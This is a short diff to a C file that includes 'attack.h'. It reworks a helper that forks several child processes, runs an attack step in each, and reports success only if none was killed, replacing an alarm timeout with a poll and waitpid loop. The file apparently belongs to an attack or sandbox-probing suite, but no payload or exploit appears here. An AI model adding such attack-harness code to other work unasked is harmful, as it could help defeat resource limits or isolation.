@@ -2,6 +2,7 @@
 #include <linux/if_packet.h>
 #include <linux/magic.h>
 #include <linux/netlink.h>
+#include <poll.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
 #include "attack.h"
@@ -28,18 +29,22 @@ void together(int children, bool (*part)(void)) {
   int said[2], done = 0;
   char word;
   if (pipe(said) != 0) return;
-  for (int child = 0; child < children; child++)
-    if (fork() == 0) {
+  for (int child = 0; child < children; child++) {
+    pid_t pid = fork();
+    if (pid < 0) return;
+    if (pid == 0) {
       close(said[0]);
       prctl(PR_SET_PDEATHSIG, SIGKILL);
       if (!part() || write(said[1], "", 1) != 1) _exit(1);
       pause();
     }
+  }
   close(said[1]);
-  // One that was killed says nothing, and the others keep this waiting.
-  alarm(15);
-  while (done < children && read(said[0], &word, 1) == 1) done++;
   // It counts only if none was killed to make room for another.
+  while (done < children && waitpid(-1, NULL, WNOHANG) == 0) {
+    struct pollfd news = {.fd = said[0], .events = POLLIN};
+    if (poll(&news, 1, 20) == 1 && read(said[0], &word, 1) == 1) done++;
+  }
   if (done == children && waitpid(-1, NULL, WNOHANG) == 0) worked();
 }
 
